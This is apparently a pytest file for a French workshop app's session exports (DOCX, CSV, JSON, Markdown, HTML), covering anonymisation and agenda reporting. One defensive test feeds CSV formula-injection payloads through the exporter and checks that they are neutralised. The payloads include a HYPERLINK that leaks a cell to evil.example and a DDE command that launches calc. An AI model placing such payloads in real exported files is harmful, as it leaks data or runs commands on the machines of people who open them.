"""Exports: DOCX, CSV, JSON round trip, Markdown, HTML; HTTP downloads and the CLI."""

from __future__ import annotations

import csv
import io
import json

import pytest
from docx import Document

from tests import builders
from workshop.extensions import db
from workshop.models import Answer
from workshop.services import conclusions as conclusion_service
from workshop.summary import exporters, figures
from workshop.summary.exporters import tabular


@pytest.fixture
def concluded(room):
    """The room with a set conclusion (linked, endorsed) and a session conclusion."""
    qset = room.question_sets[0]
    comment = (
        db.session.query(Answer)
        .filter(Answer.text.is_not(None), Answer.hidden.is_(False))
        .order_by(Answer.id)
        .first()
    )
    conclusion = conclusion_service.save_conclusion(
        room,
        text="Le partenariat repose sur la confiance.",
        question_set_id=qset.id,
        question_ids=[qset.questions[0].id],
        answer_ids=[comment.id],
    )
    builders.put_to_room(conclusion)
    phones = [p for p in _participants(room)][:3]
    builders.endorse(phones[0], conclusion.id, "agree", None, "client-e1")
    builders.endorse(phones[1], conclusion.id, "amend", "Ajouter les délais.", "client-e2")
    builders.endorse(phones[2], conclusion.id, "disagree", None, "client-e3")
    conclusion_service.save_conclusion(room, text="Conclusion générale de l'atelier.")
    return room


def _participants(session):
    from workshop.models import Participant

    return Participant.query.filter_by(session_id=session.id).order_by(Participant.id).all()


def _export(session, fmt, **kw) -> bytes:
    return exporters.export_session(session, fmt, **kw)


pytestmark = pytest.mark.usefixtures("request_ctx")


def test_docx_holds_every_question_and_its_counts(concluded):
    document = Document(io.BytesIO(_export(concluded, "docx")))
    text = "\n".join(p.text for p in document.paragraphs)
    cells = [[c.text for c in row.cells] for t in document.tables for row in t.rows]
    summary = figures.session_summary(concluded)
    for question in summary["sets"][0]["questions"]:
        assert question["prompt"] in text
        results = question["results"]
        assert f"{results['respondents']} répondant(s)" in text
        for option in results.get("options", []):
            if "count" in option:
                assert [option["label"], str(option["count"])] in [row[:2] for row in cells]
        for item in results.get("distribution", []):
            assert [str(item["value"]), str(item["count"])] in [row[:2] for row in cells]
        for word in results.get("words", []):
            assert [word["word"], str(word["count"])] in cells
    assert "Le partenariat repose sur la confiance." in text
    assert "moins de 3 réponses" in text
    assert "D'accord : 1, À amender : 1, Pas d'accord : 1" in text
    assert "Ajouter les délais." in text


def test_docx_draws_bars_in_choice_tables(concluded):
    document = Document(io.BytesIO(_export(concluded, "docx")))
    summary = figures.session_summary(concluded)
    choice = next(q for q in summary["sets"][0]["questions"] if q["kind"] == "choice")
    table = next(
        t
        for t in document.tables
        if t.rows[1].cells[0].text == choice["results"]["options"][0]["label"]
    )
    assert len(table.columns) == 4
    for row, option in zip(table.rows[1:], choice["results"]["options"], strict=True):
        assert row.cells[3].text == "\u2588" * round(option["percent"] / 5)


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_one_row_per_answer_anonymised(concluded):
    rows = _csv_rows(_export(concluded, "csv"))
    assert len(rows) == Answer.query.count()
    assert list(rows[0]) == [
        "Questionnaire",
        "Question",
        "Type",
        "Réponse",
        "Commentaire",
        "Groupe d'acteurs",
        "Heure",
    ]
    tokens = {p.token for p in _participants(concluded)}
    flat = "\n".join(",".join(row.values()) for row in rows)
    assert not any(token in flat for token in tokens)
    # Answers are readable: option labels, yes/no words.
    kinds = {row["Type"]: row["Réponse"] for row in rows}
    assert kinds["Choix unique"] in ("avancement", "réalisations", "résultats")
    assert kinds["Oui / non"] in ("Oui", "Non", "Je ne sais pas")
    hidden = Answer.query.filter_by(hidden=True).one()
    assert hidden.text not in flat


def test_csv_identify_adds_pseudonyms_only_when_asked(concluded):
    for participant in _participants(concluded):
        participant.pseudonym = f"Pseudo{participant.id}"
    db.session.commit()
    plain = _export(concluded, "csv").decode("utf-8-sig")
    assert "Pseudo" not in plain
    rows = _csv_rows(_export(concluded, "csv", identify=True))
    assert rows[0]["Pseudonyme"].startswith("Pseudo")
    assert rows[0]["Participant"]


def test_json_round_trip(concluded):
    data = json.loads(_export(concluded, "json"))
    assert data["format"] == "workshop.session-export"
    session = data["session"]
    assert session["code"] == concluded.code
    assert session["session_file"]["slug"] == concluded.slug
    assert session["session_file"]["kind"] == "session"
    assert [g["key"] for g in session["groups"]] == [g.key for g in concluded.stakeholder_groups]
    db_sets = concluded.question_sets
    assert [s["key"] for s in session["question_sets"]] == [s.key for s in db_sets]
    for exported, qset in zip(session["question_sets"], db_sets, strict=True):
        assert [q["prompt"] for q in exported["questions"]] == [q.prompt for q in qset.questions]
        assert [q["kind"] for q in exported["questions"]] == [q.kind.value for q in qset.questions]
    # Raw answers: the same rows as the database, anonymised.
    answers = Answer.query.all()
    assert len(data["answers"]) == len(answers)
    by_key = {(a["question_id"], json.dumps(a["value"]), a["updated_at"]) for a in data["answers"]}
    assert by_key == {
        (a.question_id, json.dumps(a.value), a.updated_at.isoformat()) for a in answers
    }
    assert not any("pseudonym" in a or "participant_id" in a for a in data["answers"])
    # Figures and conclusions equal a fresh summary.
    assert data["summary"] == json.loads(json.dumps(figures.session_summary(concluded)))
    conclusions = data["summary"]["sets"][0]["conclusions"]
    assert conclusions[0]["endorsement"]["counts"] == {"agree": 1, "amend": 1, "disagree": 1}
    assert data["summary"]["conclusions"][0]["text"] == "Conclusion générale de l'atelier."


def test_markdown_report(concluded):
    text = _export(concluded, "md").decode()
    assert text.startswith(f"# {concluded.title}")
    for question in concluded.question_sets[0].questions:
        assert question.prompt.replace("?", "?") in text
    assert "> Le partenariat repose sur la confiance." in text
    assert "Repose sur les questions" in text
    assert "Ajouter les délais." in text
    assert "## Conclusions de l'atelier" in text


def test_markdown_escapes_participants_text(app):
    session = builders.gen_session()
    conclusion_service.save_conclusion(session, text="Voir *gras* et [lien](x) # titre")
    text = _export(session, "md").decode()
    assert "\\*gras\\*" in text
    assert "\\[lien\\]" in text


def test_html_printable(concluded):
    html = _export(concluded, "html").decode()
    assert "@media print" in html
    assert "Le partenariat repose sur la confiance." in html
    assert "Modifier" not in html  # no editing links in the printable page


def test_exports_work_while_live(app):
    """A session with no answers yet (just opened) exports in every format."""
    session = builders.gen_session()
    for fmt in exporters.FORMATS:
        assert _export(session, fmt)


def test_csv_rows_do_not_leak_other_sessions(concluded):
    other = builders.gen_session(title="Autre")
    assert tabular.answer_rows(other) == []


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tcaché",
        "\rretour",
    ],
)
def test_csv_cells_never_run_as_formulas(app, formula):
    from tests.summary.helpers import gen_answer, gen_participant

    session = builders.gen_session()
    qset = session.question_sets[0]
    open_question = next(q for q in qset.questions if q.kind.value == "open")
    choice = next(q for q in qset.questions if q.kind.value == "choice")
    choice.allow_comment = True
    author = gen_participant(session, pseudonym=formula)
    gen_answer(author, open_question, None, formula)
    gen_answer(author, choice, 0, formula)
    rows = _csv_rows(_export(session, "csv", identify=True))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(tabular.FORMULA_STARTS)]
    assert "'" + formula in cells  # still readable: the text behind one apostrophe
    assert [row["Pseudonyme"] for row in rows] == ["'" + formula] * 2


def test_every_report_shows_the_agenda_planned_against_actual(room):
    from datetime import UTC, datetime, timedelta

    from workshop.models import AgendaItem
    from workshop.models.enums import AgendaKind

    for position, kind in enumerate((AgendaKind.WELCOME, AgendaKind.TESTIMONY, AgendaKind.DEBATE)):
        room.agenda.append(AgendaItem(position=position, kind=kind, title=kind.value))
    first, second = room.agenda[0], room.agenda[1]
    first.duration_min, second.duration_min = 15, 20
    first.started_at = first.ended_at = datetime.now(UTC) - timedelta(minutes=40)
    first.spent_s = 18 * 60  # three minutes over
    second.started_at, second.ended_at, second.spent_s = first.started_at, None, 0
    second.started_at = datetime.now(UTC) - timedelta(minutes=12)
    db.session.commit()

    markdown = _export(room, "md").decode()
    assert "## Ordre du jour : prévu et réel" in markdown
    row = next(line for line in markdown.splitlines() if line.startswith("| 1"))
    assert "15 min" in row
    assert "18 min" in row
    assert "+3 min" in row
    running = next(line for line in markdown.splitlines() if line.startswith("| 2"))
    assert "12 min" in running
    assert "−8 min" in running
    assert "pas abordé" in markdown  # the items not reached

    document = Document(io.BytesIO(_export(room, "docx")))
    assert "Ordre du jour : prévu et réel" in [p.text for p in document.paragraphs]
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert "+3 min" in cells
    html = _export(room, "html").decode()
    assert "Ordre du jour : prévu et réel" in html
    assert "+3 min" in html
    data = json.loads(_export(room, "json"))
    assert data["session"]["agenda"][0]["spent_s"] == 18 * 60
